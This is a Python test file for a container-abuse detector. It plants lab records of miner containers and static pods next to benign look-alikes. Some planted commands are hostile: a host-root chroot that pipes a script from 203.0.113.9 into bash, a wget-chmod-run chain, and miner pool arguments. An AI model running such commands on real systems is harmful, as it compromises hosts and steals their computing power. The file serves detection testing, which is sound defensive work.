"""Containers that miners came in with or came into: as their runtimes write them down, and one with a real overlay."""

from __future__ import annotations

import json
import os
import sys
from pathlib import Path
from typing import Any

from tests.lab.case import case
from tests.lab.room import Planted, Room
from tests.lab.wallets import XMR
from tests.support import planted_containers as made
from tests.support.planted_programs import container_code

_POOL = "stratum+tcp://203.0.113.9:3333"
_PODS = "/etc/kubernetes/manifests"


def docker(room: Room, name: str, image: str, *argv: str, **options: Any) -> str:
    """A container of Docker's; its id."""
    return made.docker(room.write, name, image, argv, **options)


def static_pod(room: Room, name: str, image: str, *command: str, host_path: str = "", **spec: Any) -> str:
    """A manifest in the kubelet's folder; its path."""
    container: dict[str, Any] = {"name": name, "image": image, "command": list(command)}
    if host_path:
        spec["volumes"] = [{"name": "host", "hostPath": {"path": host_path}}]
        container["volumeMounts"] = [{"name": "host", "mountPath": "/host"}]
    document = {
        "kind": "Pod",
        "metadata": {"name": name, "namespace": "kube-system"},
        "spec": {**spec, "containers": [container]},
    }
    return room.write(f"{_PODS}/{name}.yaml", json.dumps(document))


@case(7, container_mines="container_id")
def container_of_a_miner(room: Room) -> Planted:
    """containers that mine by image, by command, by environment, and one of containerd's in a pod; two of them have ended."""
    notes = made.pod("app-7d9", "default", "app", "docker.io/library/alpine:3")
    return {
        "container_id": (
            docker(room, "eager_bose", "metal3d/xmrig:latest", "/run.sh"),
            docker(room, "web", "alpine:3", "/usr/local/bin/node", "-o", _POOL, "-u", XMR),
            docker(room, "job", "ubuntu", "/app", environ=["POOL=203.0.113.9:3333", f"WALLET={XMR}"]),
            made.containerd(room.write, "pod", made.specification(["/a", "--url", _POOL], annotations=notes)),
        )
    }


@container_of_a_miner.twin
def _(room: Room) -> Planted:
    """a node of Monero, an exporter of a miner's numbers, a shop with a wallet service and a pool of connections."""
    docker(room, "node", "sethsimmons/simple-monerod:latest", "monerod", "--zmq-pub", "tcp://0.0.0.0:18083")
    docker(room, "exporter", "example/xmrig-exporter:1", "/exporter", "--target", "http://10.0.0.9:8080")
    made.containerd(
        room.write, "shop", made.specification(["/api"], environ=["POOL_URL=10.0.0.5:5432", "WALLET_SERVICE=http://w"])
    )
    return {"container_id": docker(room, "proxy", "haproxy:2.9", "haproxy", "-f", "/etc/haproxy.cfg", environ=["POOL_SIZE=20"])}


@case(5, container_downloads_and_runs="container_id", container_reaches_host="container_id")
def container_by_an_open_api(room: Room) -> Planted:
    """what an open Docker API was told to start: a shell in the host's root folder that fetches and runs a script."""
    argv = ("chroot", "/mnt", "/bin/sh", "-c", "curl -s http://203.0.113.9/cronb.sh | bash")
    return {"container_id": docker(room, "suspicious_roentgen", "alpine", *argv, Binds=["/:/mnt"])}


@container_by_an_open_api.twin
def _(room: Room) -> Planted:
    """an agent under its makers' image with the host in it, a builder, a manager with Docker's socket, a start script."""
    made.pulled(room.write, "prom/node-exporter", "prom/node-exporter:v1.8.2")
    docker(
        room, "exporter", "prom/node-exporter:v1.8.2", "/bin/node_exporter", Binds=["/:/host:ro"], PidMode="host", Privileged=True
    )
    docker(room, "builder", "docker:dind", "dockerd-entrypoint.sh", Privileged=True, Binds=["/srv/ci:/ci"])
    docker(room, "manager", "traefik:v3", "/traefik", Binds=["/var/run/docker.sock:/var/run/docker.sock:ro"])
    return {"container_id": docker(room, "shop", "node:20", "sh", "-c", "npm run migrate && exec node server.js")}


@case(10, container_restarts_a_suspect="path", container_reaches_host="path", container_mines="path")
def static_pod_of_a_miner(room: Room) -> Planted:
    """a static pod that mines and has the host's cron folder."""
    command = ("/bin/sh", "-c", f"wget -q http://203.0.113.9/x -O /tmp/x; chmod +x /tmp/x; /tmp/x -o {_POOL}")
    path = static_pod(room, "kube-cache", "busybox", *command, host_path="/var/spool/cron", hostPID=True)
    return {"path": path}


@static_pod_of_a_miner.twin
def _(room: Room) -> Planted:
    """the control plane's own static pods."""
    static_pod(room, "etcd", "registry.k8s.io/etcd:3.5.15-0", "etcd", "--data-dir=/var/lib/etcd", host_path="/var/lib/etcd")
    command = ("kube-apiserver", "--etcd-servers=https://127.0.0.1:2379")
    path = static_pod(room, "kube-apiserver", "registry.k8s.io/kube-apiserver:v1.30.4", *command, host_path="/etc/kubernetes/pki")
    return {"path": path}


@case(10, container_restarts_a_suspect="container_id")
def container_that_comes_back(room: Room) -> Planted:
    """a container of Podman's with a miner's command, which is restarted whenever it ends."""
    spec = made.specification(["/srv/app", "-o", _POOL], annotations={"io.container.manager": "libpod"})
    (Path("/var/lib/containers/storage")).mkdir(parents=True, exist_ok=True)
    room.afterwards(os.unlink, "/var/lib/containers/storage/db.sql")
    return {"container_id": made.podman(Path("/"), room.write, "app", "localhost/app", spec, record={"restart_policy": "always"})}


@container_that_comes_back.twin
def _(room: Room) -> Planted:
    """a web server that is restarted."""
    return {"container_id": docker(room, "www", "nginx", "nginx", "-g", "daemon off;", RestartPolicy={"Name": "always"})}


def run_in_container(room: Room, folder: str, program: str, *, is_dropped: bool) -> int:
    """A program that runs from a container's image, or from the writable layer over it; its pid."""
    os.makedirs(folder)
    room.afterwards(os.rmdir, folder)
    # An overlay cannot be the upper layer of another.
    room.mount("none", folder, "tmpfs", 0)
    for name in ("image", "upper", "work", "root"):
        os.mkdir(f"{folder}/{name}")
    layer = "upper" if is_dropped else "image"
    os.makedirs(f"{folder}/image/usr/bin")
    room.program(f"{folder}/{layer}{program}")
    layers = f"lowerdir={folder}/image,upperdir={folder}/upper,workdir={folder}/work"
    return room.start(sys.executable, "-c", container_code(Path(f"{folder}/root"), program, program, layers))


@case(4, program_not_from_image="pid")
def program_dropped_into_container(room: Room) -> Planted:
    """a miner that was put into a running container, in an overlay's writable layer."""
    return {"pid": run_in_container(room, "/var/lib/lab-1", "/usr/bin/xmrig", is_dropped=True)}


@program_dropped_into_container.twin
def _(room: Room) -> Planted:
    """a program that a container's user installed in it, and one of the image itself."""
    run_in_container(room, "/var/lib/lab-2", "/usr/bin/service", is_dropped=False)
    return {"pid": run_in_container(room, "/var/lib/lab-3", "/usr/bin/tool", is_dropped=True)}
